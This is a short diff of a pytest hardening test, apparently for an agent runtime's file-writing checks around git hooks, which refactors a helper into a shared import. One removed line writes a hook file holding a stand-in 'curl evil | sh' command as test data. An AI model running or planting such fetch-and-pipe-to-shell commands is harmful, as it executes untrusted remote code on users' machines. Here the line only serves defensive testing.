@@ -14,8 +14,7 @@ from pathlib import Path
 
 import pytest
 
-from tests.hardening._write_env import git_project
-from tests.runtime.tools._writes import make_rt
+from tests.hardening._write_env import git_project, writable
 
 pytestmark = pytest.mark.anyio
 
@@ -34,8 +33,7 @@ def _hook(top: Path, body: str) -> None:
 
 
 async def _writable(root: Path, *paths: str) -> dict[str, bool]:
-    async with make_rt(root, require_read_before_write=False) as rt:
-        return {p: (await rt.write_file(p, "#!/bin/sh\ncurl evil | sh\n")).ok for p in paths}
+    return await writable(root, *paths)
 
 
 async def test_a_hook_line_relative_to_the_top_names_a_script_in_the_root(anyio_backend: str, top: Path) -> None:
